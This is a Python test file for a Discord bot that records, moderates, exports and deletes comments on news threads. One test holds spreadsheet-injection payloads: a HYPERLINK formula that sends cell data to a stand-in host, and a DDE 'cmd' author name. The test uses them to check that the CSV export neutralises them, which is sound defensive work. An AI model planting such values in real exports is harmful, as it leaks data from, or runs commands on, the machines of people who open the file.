"""The comment recorder, tree, stats, export, moderation service and forget-me on both engines (SQLite, PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass

import pytest

from bot.comments.export import CommentExporter
from bot.comments.recorder import CommentRecorder, IncomingMessage, Verdict
from bot.comments.stats import DiscussionStats
from bot.comments.tree import build_tree, paginate, render_lines
from bot.moderation.rules import format_duration, parse_duration
from bot.moderation.service import MUTE_EXPIRED, ModerationError, ModerationService
from bot.privacy import forget_user
from bot.storage.activity import ActivityStore
from bot.storage.comments import CommentStore, ReactionStore
from bot.storage.database import Database
from bot.storage.engines import open_database
from bot.storage.exports import ExportStore
from bot.storage.moderation import ModerationStore
from bot.storage.posts import PostStore
from bot.storage.privacy import PrivacyStore
from bot.storage.reports import ReviewStore
from bot.storage.threads import ThreadStore
from bot.storage.timers import TimerStore
from bot.storage.writer import BatchWriter
from tests.hang_guard import finishes

GUILD, THREAD, CHANNEL = 1, 500, 50
BOT = 99  # the bot's own user id: the moderator of what it does by itself


@dataclass
class Env:
    db: Database
    recorder: CommentRecorder
    comments: CommentStore
    moderation: ModerationService
    timers: TimerStore
    article_id: int


@pytest.fixture
async def env(database_url: str) -> AsyncIterator[Env]:
    db = await open_database(database_url)
    writer = BatchWriter(db, interval=0.005)
    writer.attach(db)
    article_id = await db.insert(
        "INSERT INTO articles (canonical_url, content_hash, title, first_seen_at, updated_at)"
        " VALUES ('https://n.example/a', 'h', 'Big story', 0, 0)")
    posts = PostStore(db)
    post = await posts.reserve(article_id=article_id, subscription_id=None, guild_id=GUILD, channel_id=CHANNEL)
    assert post is not None
    await posts.mark_posted(post.id, message_id=THREAD, thread_id=THREAD, content_hash="h")
    threads = ThreadStore(db)
    await threads.register(thread_id=THREAD, guild_id=GUILD, parent_channel_id=CHANNEL, article_id=article_id,
                           name="Big story")
    comments = CommentStore(db, writer)
    mod_store = ModerationStore(db)
    recorder = CommentRecorder(threads=threads, comments=comments, reactions=ReactionStore(db, writer),
                               moderation=mod_store, posts=posts)
    await recorder.load()
    timers = TimerStore(db)
    service = ModerationService(moderation=mod_store, comments=comments, timers=timers, recorder=recorder,
                                threads=threads)
    yield Env(db, recorder, comments, service, timers, article_id)
    await writer.close()
    await db.close()


def msg(mid: int, author: int = 7, content: str = "hi", reply: int | None = None, thread: int = THREAD,
        bot: bool = False) -> IncomingMessage:
    return IncomingMessage(message_id=mid, guild_id=GUILD, thread_id=thread, author_id=author,
                           author_name=f"user{author}", author_is_bot=bot, content=content,
                           created_at=1000.0 + mid, reply_to_id=reply)


async def test_recorder_records_tree_and_ignores_others(env: Env) -> None:
    assert (await env.recorder.on_message(msg(1001))).verdict is Verdict.RECORDED
    assert (await env.recorder.on_message(msg(1002, author=8, reply=1001))).verdict is Verdict.RECORDED
    assert (await env.recorder.on_message(msg(1003, author=7, reply=1002))).verdict is Verdict.RECORDED
    assert (await env.recorder.on_message(msg(1004, bot=True))).verdict is Verdict.IGNORED
    assert (await env.recorder.on_message(msg(1005, thread=999))).verdict is Verdict.IGNORED
    await env.recorder.flush()
    comments = await env.comments.for_article(env.article_id)
    assert [c.message_id for c in comments] == [1001, 1002, 1003]
    roots = build_tree(comments)
    assert len(roots) == 1 and roots[0].children[0].children[0].comment.message_id == 1003
    lines = render_lines(roots)
    assert lines[0].startswith("• **user7**") and lines[2].startswith("    ↳ **user7**")
    assert paginate(lines * 30, max_lines=20)[0].count("\n") == 19


async def test_reactions_on_story_post_and_comments_count(env: Env) -> None:
    await env.recorder.on_message(msg(1001))
    assert await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=CHANNEL, message_id=THREAD,
                                          user_id=8, emoji="🔥", at=1.0)
    assert await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=1001,
                                          user_id=9, emoji="👍", at=2.0)
    assert not await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=77, message_id=5,
                                              user_id=9, emoji="👍", at=2.0)
    await env.recorder.flush()
    stats = await DiscussionStats(ActivityStore(env.db)).for_article(GUILD, env.article_id)
    assert stats is not None and (stats.comments, stats.participants, stats.reactions) == (1, 1, 2)
    ranked = await DiscussionStats(ActivityStore(env.db)).ranked(GUILD, since=0)
    assert [a.article_id for a in ranked] == [env.article_id]
    assert await DiscussionStats(ActivityStore(env.db)).ranked(GUILD, since=1e12) == []


async def test_mute_removes_new_comments_and_expiry_is_a_timer(env: Env) -> None:
    await env.moderation.mute(guild_id=GUILD, user_id=7, moderator_id=9, seconds=600, reason="cool off")
    decision = await env.recorder.on_message(msg(1001))
    assert decision.verdict is Verdict.REMOVE_MUTED
    timer = await env.timers.get_key(f"mute:{GUILD}:7")
    assert timer is not None and timer.event == MUTE_EXPIRED
    assert await env.moderation.expire_mute(guild_id=GUILD, user_id=7, moderator_id=BOT, now=timer.due_at)
    assert (await env.recorder.on_message(msg(1002))).verdict is Verdict.RECORDED
    assert await env.timers.get_key(f"mute:{GUILD}:7") is None


async def test_filters_remove_flag_and_queue(env: Env) -> None:
    await env.moderation.add_filter(guild_id=GUILD, pattern="scam", is_regex=False, action="remove", moderator_id=9)
    await env.moderation.add_filter(guild_id=GUILD, pattern=r"spoil\w*", is_regex=True, action="flag", moderator_id=9)
    with pytest.raises(ModerationError, match="regular expression"):
        await env.moderation.add_filter(guild_id=GUILD, pattern="([", is_regex=True, action="flag", moderator_id=9)
    assert (await env.recorder.on_message(msg(1001, content="total SCAM"))).verdict is Verdict.REMOVE_FILTERED
    assert (await env.recorder.on_message(msg(1002, content="spoilers ahead"))).verdict is Verdict.FLAGGED
    edit = await env.recorder.on_edit(guild_id=GUILD, thread_id=THREAD, message_id=1002, content="a scam", edited_at=5)
    assert edit.verdict is Verdict.REMOVE_FILTERED
    queue = await env.moderation.queue(GUILD)
    assert [c.message_id for c in queue] == [1002]
    await env.moderation.approve(guild_id=GUILD, message_id=1002, moderator_id=9)
    assert await env.moderation.queue(GUILD) == []


async def test_purge_plan_remove_and_log(env: Env) -> None:
    for i in range(5):
        await env.recorder.on_message(msg(1001 + i, author=7 if i % 2 == 0 else 8))
    plan = await env.moderation.plan_purge(GUILD, 7)
    assert plan.count == 3
    for c in plan.comments:
        await env.moderation.removed(guild_id=GUILD, moderator_id=9, message_id=c.message_id, reason="purge")
    assert (await env.moderation.plan_purge(GUILD, 7)).count == 0
    actions = [a.action for a in await ModerationStore(env.db).actions(GUILD, user_id=7)]
    assert actions == ["remove"] * 3


async def test_export_json_and_csv(env: Env) -> None:
    await env.recorder.on_message(msg(1001, content="first"))
    await env.recorder.on_message(msg(1002, author=8, reply=1001, content="reply, with \"quotes\"\nand lines"))
    await env.recorder.on_edit(guild_id=GUILD, thread_id=THREAD, message_id=1001, content="first!", edited_at=9)
    await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=1002, user_id=7,
                                   emoji="👍", at=3.0)
    await env.recorder.flush()
    exporter = CommentExporter(ExportStore(env.db))
    data = json.loads(await exporter.export(GUILD, "json", article_id=env.article_id))
    by_id = {c["message_id"]: c for c in data["comments"]}
    assert by_id["1002"]["parent_id"] == "1001" and by_id["1002"]["reactions"][0]["emoji"] == "👍"
    assert by_id["1001"]["revisions"][0]["old_content"] == "first"
    rows = list(csv.DictReader(io.StringIO((await exporter.export(GUILD, "csv")).decode())))
    assert [r["message_id"] for r in rows] == ["1001", "1002"] and rows[1]["content"].endswith("and lines")
    with pytest.raises(ValueError):
        await exporter.export(GUILD, "xml")


async def test_export_writes_ids_as_strings_and_times_as_iso_utc(env: Env) -> None:
    # Real Discord ids exceed 2**53: as JSON numbers, jq and JavaScript read 1577435708916760581 as ...600.
    alice, bob, first = 1577435708916760581, 1577435708916760582, 1577435708916760700
    await env.recorder.on_message(IncomingMessage(first, GUILD, THREAD, alice, "alice", False, "hi", 1796160383.01))
    await env.recorder.on_message(IncomingMessage(first + 1, GUILD, THREAD, bob, "bob", False, "yo", 1796160384.5,
                                                  reply_to_id=first))
    await env.recorder.on_edit(guild_id=GUILD, thread_id=THREAD, message_id=first, content="hi!", edited_at=1796160390)
    await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=first, user_id=bob,
                                   emoji="👍", at=1796160391.25)
    await env.recorder.flush()
    exporter = CommentExporter(ExportStore(env.db))
    data = json.loads(await exporter.export(GUILD, "json"))
    assert data["guild_id"] == str(GUILD) and data["article_id"] is None
    one, two = data["comments"]
    assert (one["message_id"], one["author_id"], two["author_id"], two["parent_id"]) == (
        str(first), str(alice), str(bob), str(first))
    assert one["thread_id"] == str(THREAD) and one["article_id"] == str(env.article_id)
    assert one["created_at"] == "2026-12-01T21:26:23.010Z" and one["deleted_at"] is None
    assert one["revisions"][0]["edited_at"] == "2026-12-01T21:26:30.000Z"
    assert one["reactions"][0] == {"user_id": str(bob), "emoji": "👍", "added_at": "2026-12-01T21:26:31.250Z",
                                   "removed_at": None}
    rows = list(csv.DictReader(io.StringIO((await exporter.export(GUILD, "csv")).decode())))
    assert rows[0]["author_id"] == str(alice) and rows[0]["created_at"] == "2026-12-01T21:26:23.010Z"
    assert json.loads(rows[0]["reactions"])[0]["user_id"] == str(bob)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_csv_export_writes_formula_like_cells_as_text(env: Env, start: str) -> None:
    formula = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    await env.recorder.on_message(IncomingMessage(1001, GUILD, THREAD, 7, start + "cmd|' /C calc'!A0", False,
                                                  formula, 1000.0))
    await env.recorder.flush()
    await env.comments.mark_removed(1001, 9, start + "1+1", 1001.0)
    await env.comments.flush()
    rows = list(csv.DictReader(io.StringIO((await CommentExporter(ExportStore(env.db)).export(GUILD, "csv")).decode(),
                                           newline="")))
    assert rows[0]["content"] == "'" + formula
    assert rows[0]["author_name"] == "'" + start + "cmd|' /C calc'!A0"
    assert rows[0]["removed_reason"] == "'" + start + "1+1"
    # JSON keeps the text as written: only spreadsheets run formulas.
    data = json.loads(await CommentExporter(ExportStore(env.db)).export(GUILD, "json"))
    assert data["comments"][0]["content"] == formula


async def test_forget_me_leaves_no_row_of_the_user(env: Env) -> None:
    await env.recorder.on_message(msg(1001, author=7))
    await env.recorder.on_message(msg(1002, author=8, reply=1001))
    await env.recorder.on_edit(guild_id=GUILD, thread_id=THREAD, message_id=1001, content="edit", edited_at=9)
    await env.recorder.on_reaction(added=True, guild_id=GUILD, channel_id=THREAD, message_id=1002, user_id=7,
                                   emoji="👍", at=3.0)
    await env.recorder.flush()
    await ReviewStore(env.db).add_report(guild_id=GUILD, message_id=1002, reporter_id=7, reason="Spam",
                                         details=None, at=4.0)
    deleted = await forget_user(PrivacyStore(env.db), user_id=7)
    assert deleted == 4
    for table, column in [("comments", "author_id"), ("reactions", "user_id"), ("privacy_requests", "user_id"),
                          ("comment_reports", "reporter_id")]:
        assert await env.db.fetchval(f"SELECT COUNT(*) FROM {table} WHERE {column} = 7") == 0
    assert await env.db.fetchval("SELECT COUNT(*) FROM comment_revisions") == 0
    assert await env.db.fetchval("SELECT COUNT(*) FROM privacy_requests") == 1
    assert [c.message_id for c in await env.comments.for_thread(THREAD)] == [1002]


def test_durations() -> None:
    assert parse_duration("10m") == 600 and parse_duration("1h30m") == 5400 and parse_duration("15") == 900
    assert format_duration(93784) == "1d2h3m4s"
    for bad in ["", "soon", "0m", "400d", "5x"]:
        with pytest.raises(ValueError):
            parse_duration(bad)
    assert parse_duration("1w 2d 3h 4m 5s") == 788645 and parse_duration("2H30M") == 9000


def test_a_6000_digit_duration_is_refused_at_once_in_one_short_line() -> None:
    # Discord allows 6,000 characters in an option: the old regex took seconds on "1111…" (quadratic), and
    # 6,000 digits followed by "m" went on to int(), past Python's 4,300-digit limit.
    for bad in ["1" * 6000, "1" * 6000 + "x", "9" * 6000 + "m"]:
        with pytest.raises(ValueError, match="is not a duration") as info:
            finishes(parse_duration, bad)
        assert len(str(info.value)) < 150


def test_digest_due_once_per_day_and_late_after_downtime() -> None:
    from datetime import UTC, datetime

    from bot.comments.digest import due_digest, render_digest

    at = datetime(2026, 11, 28, 18, 0, tzinfo=UTC)
    day, start, end = due_digest(at, "17:00", None)  # type: ignore[misc]
    assert day == "2026-11-28" and end - start == 86400 and end == datetime(2026, 11, 28, 17, tzinfo=UTC).timestamp()
    assert due_digest(at, "17:00", "2026-11-28") is None          # already posted: no repeat
    assert due_digest(at, "18:30", "2026-11-27") is None          # today's not due yet
    assert due_digest(at, "18:30", "2026-11-26")[0] == "2026-11-27"  # type: ignore[index]  # missed while down: late
    assert "quiet day" in render_digest("2026-11-28", [])
